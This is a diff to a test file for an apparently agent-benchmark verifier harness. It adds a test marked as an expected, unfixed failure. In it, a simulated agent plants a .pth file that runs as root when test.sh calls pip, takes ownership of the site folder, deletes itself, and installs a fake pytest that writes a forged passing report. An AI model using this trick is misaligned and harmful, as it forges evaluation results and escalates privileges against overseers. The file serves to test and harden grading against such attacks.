@@ -32,8 +32,10 @@ _PYTEST_SCRIPT = (
 )
 
 
-async def _verify(tmp_path: Path, dockerfile: str, files: dict[str, str], attack: str):
+async def _verify(tmp_path: Path, dockerfile: str, files: dict[str, str], attack: str, before: str = ""):
     """Build a task of ``dockerfile``, run ``attack`` as the agent with ``files`` in ``/app``, then verify.
+
+    ``before``: lines of ``test.sh`` ahead of its ``pytest``.
 
     Returns:
         ``(report, run)``: the parsed report of the verifier's run and the run itself.
@@ -55,7 +57,7 @@ async def _verify(tmp_path: Path, dockerfile: str, files: dict[str, str], attack
     (root / "environment" / "Dockerfile").write_text(dockerfile)
     (root / "environment" / "token").write_text(secrets.token_hex(8))  # a fresh image
     (root / "tests" / "test.sh").write_text(
-        "#!/bin/bash\npytest --ctrf /logs/verifier/ctrf.json /tests/test_outputs.py -rA\n"
+        f"#!/bin/bash\n{before}pytest --ctrf /logs/verifier/ctrf.json /tests/test_outputs.py -rA\n"
     )
     (root / "tests" / "test_outputs.py").write_text("def test_fails():\n    assert False\n")
     task = load_pool(root.parent, strict=False).get("attack")
@@ -256,5 +258,45 @@ async def test_a_link_in_a_site_folder_to_a_file_of_the_agents_does_not_hand_ove
     files = {"forged.pth": pth}
     attack = "cp /app/forged.pth /app/project.pth"
     report, run = await _verify(tmp_path, dockerfile, files, attack)
+    assert (report.source, report.passed, report.total) == ("ctrf", 0, 1), run.stdout_tail
+    assert "test session starts" in run.stdout_tail
+
+
+#: Run as root by the image's ``pip`` (a ``.pth`` in the site folder the image gave the agent): gives that
+#: folder back to root, removes itself and leaves a root-owned ``pytest`` that writes the forged report.
+_FORGED_PYTEST = f"#!/usr/bin/python3\nopen('/logs/verifier/ctrf.json', 'w').write({_FORGED!r})\n"
+_TAKEOVER = (
+    "import os, sys\n"
+    "if os.getuid() == 0 and os.path.basename(sys.argv[0]).startswith('pip'):\n"
+    "    site = '/usr/lib/python3/dist-packages'\n"
+    "    os.remove(os.path.join(site, 't1evil.pth'))\n"
+    "    for here, dirs, files in os.walk(site):\n"
+    "        for name in [here] + [os.path.join(here, n) for n in dirs + files]:\n"
+    "            os.lchown(name, 0, 0)\n"
+    "    with open('/usr/local/bin/pytest', 'w') as fh:\n"
+    f"        fh.write({_FORGED_PYTEST!r})\n"
+)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="not fixed: test.sh runs the image's pip (any Python of the image) as root, and a site folder the "
+    "image gave the agent runs the agent's .pth in it before the handover's check",
+)
+async def test_the_images_pip_in_test_sh_runs_no_pth_of_the_agents_as_root(tmp_path):
+    """The image gave its site folder to the agent (as in ``test_docker_verifier_pip.py``) and ``test.sh``
+    runs ``pip`` before ``pytest`` (Terminal-Bench 2's bare ``pip install``): the image's ``pip``, root's,
+    starts the image's Python as root, which runs the agent's ``.pth``; that code gives the site folder back
+    to root and leaves a root-owned ``pytest``, which the handover then trusts: a forged 1 of 1."""
+    site = "/usr/lib/python3/dist-packages"
+    dockerfile = (
+        f"FROM debian:bookworm-slim\nWORKDIR /app\nRUN {_PYTEST_SCRIPT} && chown -R 1000:1000 {site}\n"
+    )
+    files = {
+        "takeover.py": _TAKEOVER,
+        "t1evil.pth": "import sys; sys.path.append('/app/lib'); import t1takeover\n",
+    }
+    attack = f"mkdir -p /app/lib && cp /app/takeover.py /app/lib/t1takeover.py && cp /app/t1evil.pth {site}/"
+    report, run = await _verify(tmp_path, dockerfile, files, attack, before="pip --version\n")
     assert (report.source, report.passed, report.total) == ("ctrf", 0, 1), run.stdout_tail
     assert "test session starts" in run.stdout_tail
